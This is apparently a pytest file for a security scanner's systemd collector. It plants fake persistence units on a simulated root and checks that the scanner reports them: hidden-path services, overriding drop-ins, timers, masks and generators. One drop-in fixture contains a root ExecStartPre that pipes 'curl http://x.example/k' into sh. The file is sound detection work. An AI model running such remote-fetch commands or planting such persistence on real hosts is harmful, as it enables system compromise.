"""linux.systemd on planted units: user services, drop-ins, timers, masks, generators."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from linux_fakeroot import ALICE_HOME, debian_root, link, make_host, of_kind, write

from safecheck.core.entries import Entry
from safecheck.scan.collectors.linux import systemd as systemd_module
from safecheck.scan.collectors.linux.systemd import (
    SystemdCollector,
    effective_commands,
    strip_exec_prefix,
    template_of,
)
from safecheck.scan.collectors.parsers.ini import parse_ini

SYNC_SERVICE = """\
[Unit]
Description=File synchronisation

[Service]
Type=simple
ExecStart=/tmp/.x/agent --daemon
Restart=always

[Install]
WantedBy=default.target
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return debian_root(tmp_path)


def collect(root: Path) -> list[Entry]:
    result = SystemdCollector().collect(make_host(root))
    assert result.errors == []
    return result.entries


def by_unit(entries: list[Entry], name: str) -> list[Entry]:
    return [e for e in entries if e.name == name]


def test_user_service_in_the_home_folder(root: Path) -> None:
    path = f"{ALICE_HOME}/.config/systemd/user/sync.service"
    write(root, path, SYNC_SERVICE)
    link(root, f"{ALICE_HOME}/.config/systemd/user/default.target.wants/sync.service", path)
    (entry,) = by_unit(collect(root), "sync.service")
    assert entry == Entry(
        collector="linux.systemd",
        kind="systemd-unit",
        location=path,
        name="sync.service",
        command="/tmp/.x/agent --daemon",
        program="/tmp/.x/agent",
        line=6,
        user="alice",
        enabled=True,
        modified=make_host(root).modified(path),
        details=(
            ("unit", "sync.service"),
            ("scope", "user"),
            ("state", "enabled"),
            ("directive", "ExecStart"),
        ),
    )


def test_user_service_not_linked_is_disabled(root: Path) -> None:
    write(root, f"{ALICE_HOME}/.local/share/systemd/user/sync.service", SYNC_SERVICE)
    (entry,) = by_unit(collect(root), "sync.service")
    assert (entry.enabled, entry.detail("state"), entry.user) == (False, "disabled", "alice")


def test_drop_in_replaces_exec_start(root: Path) -> None:
    path = "/etc/systemd/system/cron.service.d/override.conf"
    write(root, path, "[Service]\nExecStart=\nExecStart=/usr/local/bin/.cron-helper -q\n")
    (entry,) = by_unit(collect(root), "cron.service")
    assert (entry.location, entry.line, entry.command, entry.program) == (
        path,
        3,
        "/usr/local/bin/.cron-helper -q",
        "/usr/local/bin/.cron-helper",
    )
    assert entry.enabled is True
    assert entry.detail("directive") == "ExecStart"


def test_drop_in_exec_start_without_reset_still_replaces(root: Path) -> None:
    write(root, "/etc/systemd/system/ssh.service.d/10-x.conf", "[Service]\nExecStart=/opt/x\n")
    starts = [
        e for e in by_unit(collect(root), "ssh.service") if e.detail("directive") == "ExecStart"
    ]
    assert [e.command for e in starts] == ["/opt/x"]


def test_drop_in_adds_a_pre_command(root: Path) -> None:
    path = "/run/systemd/system/ssh.service.d/pre.conf"
    write(root, path, "[Service]\nExecStartPre=+/bin/sh -c 'curl -s http://x.example/k | sh'\n")
    pres = [
        e for e in by_unit(collect(root), "ssh.service") if e.detail("directive") == "ExecStartPre"
    ]
    assert [(e.location, e.program) for e in pres] == [
        ("/usr/lib/systemd/system/ssh.service", "/usr/sbin/sshd"),
        (path, "curl"),
    ]


def test_unit_in_etc_shadows_the_package_unit(root: Path) -> None:
    write(root, "/etc/systemd/system/cron.service", CRON_REPLACED)
    (entry,) = by_unit(collect(root), "cron.service")
    assert entry.location == "/etc/systemd/system/cron.service"
    assert entry.program == "/var/tmp/cron"
    assert entry.user == "nobody"
    assert entry.detail("shadows") == "/usr/lib/systemd/system/cron.service"


CRON_REPLACED = """\
[Service]
User=nobody
ExecStart=/var/tmp/cron -f

[Install]
WantedBy=multi-user.target
"""


def test_masked_unit(root: Path) -> None:
    link(root, "/etc/systemd/system/ssh.service", "/dev/null")
    entries = by_unit(collect(root), "ssh.service")
    assert entries
    assert {(e.enabled, e.detail("state")) for e in entries} == {(False, "masked")}


def test_timer_and_the_service_it_triggers(root: Path) -> None:
    write(
        root,
        "/etc/systemd/system/backup.timer",
        "[Unit]\nDescription=x\n\n[Timer]\nOnCalendar=*:0/5\nPersistent=true\n"
        "Unit=upload.service\n\n[Install]\nWantedBy=timers.target\n",
    )
    write(
        root,
        "/etc/systemd/system/upload.service",
        "[Service]\nType=oneshot\nUser=alice\nExecStart=/usr/bin/env python3 /opt/up.py\n",
    )
    link(root, "/etc/systemd/system/timers.target.wants/backup.timer", "../backup.timer")
    entries = collect(root)
    (timer,) = [e for e in of_kind_list(entries, "systemd-timer") if e.name == "backup.timer"]
    assert timer == Entry(
        collector="linux.systemd",
        kind="systemd-timer",
        location="/etc/systemd/system/backup.timer",
        name="backup.timer",
        command="/usr/bin/env python3 /opt/up.py",
        program="python3",
        line=7,
        user="alice",
        enabled=True,
        modified=make_host(root).modified("/etc/systemd/system/backup.timer"),
        details=(
            ("unit", "backup.timer"),
            ("scope", "system"),
            ("state", "enabled"),
            ("triggers", "upload.service"),
            ("OnCalendar", "*:0/5"),
        ),
    )
    (service,) = by_unit(entries, "upload.service")
    assert (service.user, service.enabled, service.detail("state")) == ("alice", None, "static")


def of_kind_list(entries: list[Entry], kind: str) -> list[Entry]:
    return [e for e in entries if e.kind == kind]


def test_socket_and_path_units_are_read(root: Path) -> None:
    write(
        root,
        "/usr/local/lib/systemd/system/listen.socket",
        "[Socket]\nListenStream=4444\nExecStartPre=/usr/local/bin/prep\n",
    )
    write(root, "/usr/local/lib/systemd/system/watch.path", "[Path]\nPathChanged=/etc/passwd\n")
    (entry,) = by_unit(collect(root), "listen.socket")
    assert (entry.program, entry.detail("directive")) == ("/usr/local/bin/prep", "ExecStartPre")


def test_planted_generator_and_masked_generator(root: Path) -> None:
    write(root, "/etc/systemd/system-generators/makecon", "#!/bin/sh\n/tmp/x &\n", 0o755)
    link(root, "/etc/systemd/system-generators/systemd-fstab-generator", "/dev/null")
    write(root, "/usr/local/lib/systemd/user-generators/u", "#!/bin/sh\n", 0o644)
    entries = of_kind_list(collect(root), "systemd-generator")
    assert [(e.location, e.enabled, e.detail("scope")) for e in entries] == [
        ("/etc/systemd/system-generators/makecon", True, "system"),
        ("/usr/lib/systemd/system-generators/systemd-fstab-generator", False, "system"),
        ("/usr/local/lib/systemd/user-generators/u", False, "user"),
    ]
    assert entries[0].program == "/etc/systemd/system-generators/makecon"


def test_template_instance_link_enables_the_template(root: Path) -> None:
    entries = by_unit(collect(root), "getty@.service")
    assert {e.enabled for e in entries} == {True}


def test_type_level_drop_in_is_reported(root: Path) -> None:
    path = "/etc/systemd/system/service.d/10-all.conf"
    write(root, path, "[Service]\nExecStartPost=/usr/local/sbin/hook\n")
    (entry,) = by_unit(collect(root), "service")
    assert (entry.location, entry.program, entry.detail("directive")) == (
        path,
        "/usr/local/sbin/hook",
        "ExecStartPost",
    )


def test_continued_exec_line(root: Path) -> None:
    write(
        root,
        "/etc/systemd/system/long.service",
        "[Service]\nExecStart=/opt/long/bin/run \\\n    --flag \\\n    --other\n",
    )
    (entry,) = by_unit(collect(root), "long.service")
    assert (entry.command, entry.line) == ("/opt/long/bin/run --flag --other", 2)


def test_unit_file_read_once(root: Path) -> None:
    link(root, "/etc/systemd/system/cron-alias.service", "/lib/systemd/system/cron.service")
    result = SystemdCollector().collect(make_host(root))
    assert len(by_unit(result.entries, "cron.service")) == 1
    assert by_unit(result.entries, "cron-alias.service") == []
    assert of_kind(result, "systemd-unit")


def test_helpers() -> None:
    assert strip_exec_prefix("-@:/usr/bin/x y") == "/usr/bin/x y"
    assert strip_exec_prefix("!!/usr/bin/x") == "/usr/bin/x"
    assert template_of("getty@tty1.service") == "getty@.service"
    assert template_of("cron.service") is None
    main = parse_ini("[Service]\nExecStart=/a\nExecStartPre=/p\n")
    dropin = parse_ini("[Service]\nExecStartPre=\nExecStartPre=/q\n")
    commands = effective_commands([("/u", main, False), ("/d", dropin, True)])
    assert commands == {"ExecStart": [("/a", 2, "/u")], "ExecStartPre": [("/q", 3, "/d")]}


def test_alias_link_made_by_enable_counts_as_enabled(root: Path) -> None:
    write(
        root,
        "/usr/lib/systemd/system/gdm3.service",
        "[Service]\nExecStart=/usr/sbin/gdm3\n\n[Install]\nAlias=display-manager.service\n",
    )
    write(
        root,
        "/usr/lib/systemd/system/other.service",
        "[Service]\nExecStart=/usr/sbin/other\n\n[Install]\nWantedBy=multi-user.target\n",
    )
    link(root, "/usr/lib/systemd/system/static-alias.service", "other.service")
    entries = collect(root)
    assert by_unit(entries, "gdm3.service")[0].enabled is False
    link(root, "/etc/systemd/system/display-manager.service", "/lib/systemd/system/gdm3.service")
    entries = collect(root)
    (gdm,) = by_unit(entries, "gdm3.service")
    assert (gdm.enabled, gdm.detail("state")) == (True, "enabled")
    (other,) = by_unit(entries, "other.service")
    assert (other.enabled, other.detail("state")) == (False, "disabled")


def test_files_let_go_are_read_again_with_the_same_result(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Parsed unit files are not all kept (memory stays flat on a disk of 100,000 units): a
    file met again after it was let go gives the same entries, and is counted once."""
    shared = "/etc/systemd/shared/override.conf"
    write(root, shared, "[Service]\nExecStartPre=/usr/local/bin/pre\n")
    for number in range(6):
        write(root, f"/etc/systemd/system/app{number}.service", "[Service]\nExecStart=/bin/a\n")
        link(root, f"/etc/systemd/system/app{number}.service.d/override.conf", shared)
    # the same unit file in the system's and everyone's user units
    write(root, "/etc/systemd/system/both.service", "[Service]\nExecStart=/opt/b --x\n")
    link(root, "/etc/systemd/user/both.service", "/etc/systemd/system/both.service")
    os.mkfifo(root / "etc/systemd/system/fifo.service")  # unreadable: recorded once
    os.mkfifo(root / "etc/systemd/shared/pipe.conf")
    for number in range(3):
        link(
            root,
            f"/etc/systemd/system/app{number}.service.d/pipe.conf",
            "/etc/systemd/shared/pipe.conf",
        )
    kept = SystemdCollector().collect(make_host(root))
    monkeypatch.setattr(systemd_module, "MAX_PARSED_KEPT", 1)
    let_go = SystemdCollector().collect(make_host(root))
    assert let_go.entries == kept.entries
    assert let_go.checked == kept.checked
    assert [str(e) for e in let_go.errors] == [str(e) for e in kept.errors]
    assert len([e for e in kept.entries if e.command == "/usr/local/bin/pre"]) == 6
    assert len(by_unit(kept.entries, "both.service")) == 2
    assert len(kept.errors) == 4  # the FIFO unit, and the FIFO drop-in at each of its links
